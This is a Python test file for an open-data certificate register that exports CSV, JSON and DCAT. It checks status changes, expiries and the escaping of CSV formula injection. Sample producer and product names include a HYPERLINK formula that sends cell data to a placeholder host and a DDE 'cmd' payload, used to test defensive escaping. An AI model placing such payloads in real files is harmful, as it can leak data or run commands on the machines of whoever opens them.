"""The open register: CSV and JSON that follow every change at once, and a DCAT description."""

import csv
import datetime as dt
import io

import pytest

from ocop.certificates import services
from ocop.certificates.tests.conftest import issue, office  # noqa: F401
from ocop.core.excel import csv_cell


def _csv(client):
    response = client.get("/open-data/certificates.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


def test_the_register_follows_each_change_at_once(office, client, time_machine):  # noqa: F811
    time_machine.move_to(dt.datetime(2026, 1, 10, 9, tzinfo=dt.UTC))
    cert = issue(office)
    rows = _csv(client)
    assert rows == [
        {
            "number": "01-2025-00001", "code": cert.code, "product": "Bình gốm men lam", "producer": "HTX Gốm Bát Tràng",
            "commune": "Xã Bát Tràng", "province": "Thành phố Hà Nội", "stars": "4", "issued_on": "2025-11-20",
            "valid_until": "2028-11-20", "status": "valid", "decision": cert.decision.number,
            "issuing_body": "Ủy ban nhân dân Thành phố Hà Nội",
        }
    ]  # fmt: skip
    services.suspend(by=office.coordinator, certificate=cert, reason="Kiểm tra")
    assert [r["status"] for r in _csv(client)] == ["suspended"]
    services.lift(by=office.coordinator, certificate=cert)
    services.revoke(by=office.coordinator, certificate=cert, decision_number="5/QĐ", revoked_on=dt.date(2026, 1, 9),
                    reason="Sai")  # fmt: skip
    body = b"".join(client.get("/open-data/certificates.json").streaming_content)
    import json

    data = json.loads(body)
    assert (data["count"], data["items"][0]["status"]) == (1, "revoked")


def test_a_new_day_brings_expiries_without_any_change(office, client, time_machine):  # noqa: F811
    time_machine.move_to(dt.datetime(2026, 1, 10, 9, tzinfo=dt.UTC))
    issue(office, on=dt.date(2023, 1, 10))
    assert [r["status"] for r in _csv(client)] == ["expiring"]
    time_machine.move_to(dt.datetime(2026, 1, 11, 9, tzinfo=dt.UTC))
    assert [r["status"] for r in _csv(client)] == ["expired"]


def test_the_dataset_is_described_with_dcat(office, client, time_machine):  # noqa: F811
    time_machine.move_to(dt.datetime(2026, 1, 10, 9, tzinfo=dt.UTC))
    issue(office)
    body = client.get("/open-data/dcat.json").json()
    assert body["@type"] == "dcat:Dataset"
    assert [d["dct:format"] for d in body["dcat:distribution"]] == ["CSV", "JSON", "JSON"]  # the last: checkpoints
    assert body["dcat:distribution"][0]["dcat:downloadURL"] == "http://127.0.0.1:8000/open-data/certificates.csv"
    assert body["ocop:count"] == 1
    page = client.get("/open-data/")
    assert page.status_code == 200 and "1 giấy chứng nhận" in page.content.decode()
    assert client.get("/open-data/certificates.xml").status_code == 404


def test_text_that_excel_would_run_as_a_formula_is_quoted_in_the_csv_only(office, client, time_machine):  # noqa: F811
    from ocop.certificates.models import Decision
    from ocop.testing import make_producer, make_product

    time_machine.move_to(dt.datetime(2026, 1, 10, 9, tzinfo=dt.UTC))
    producer = make_producer(name='=HYPERLINK("http://x.example/?"&A1,"Xem")')
    product = make_product(producer=producer, name="+1+cmd|' /C calc'!A0")
    cert = issue(office, product=product, number="-2+3/QĐ-UBND")
    Decision.objects.filter(pk=cert.decision_id).update(issuing_body="@SUM(1+1)")
    response = client.get("/open-data/certificates.csv")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    assert text.splitlines()[1] == (
        f'01-2025-00001,{cert.code},\'+1+cmd|\' /C calc\'!A0,"\'=HYPERLINK(""http://x.example/?""&A1,""Xem"")",'
        "Xã Bát Tràng,Thành phố Hà Nội,4,2025-11-20,2028-11-20,valid,'-2+3/QĐ-UBND,'@SUM(1+1)"
    )
    import json

    item = json.loads(b"".join(client.get("/open-data/certificates.json").streaming_content))["items"][0]
    assert (item["product"], item["producer"], item["decision"], item["issuing_body"]) == (
        "+1+cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?"&A1,"Xem")', "-2+3/QĐ-UBND", "@SUM(1+1)",
    )  # fmt: skip


@pytest.mark.parametrize(
    ("value", "written"),
    [("=1+1", "'=1+1"), ("+84 24", "'+84 24"), ("-5", "'-5"), ("@A1", "'@A1"), ("\tx", "'\tx"), ("\rx", "'\rx"),
     ("Bình = gốm", "Bình = gốm"), ("", ""), (4, 4)],
)  # fmt: skip
def test_a_csv_cell_opening_like_a_formula_gets_an_apostrophe(value, written):
    assert csv_cell(value) == written
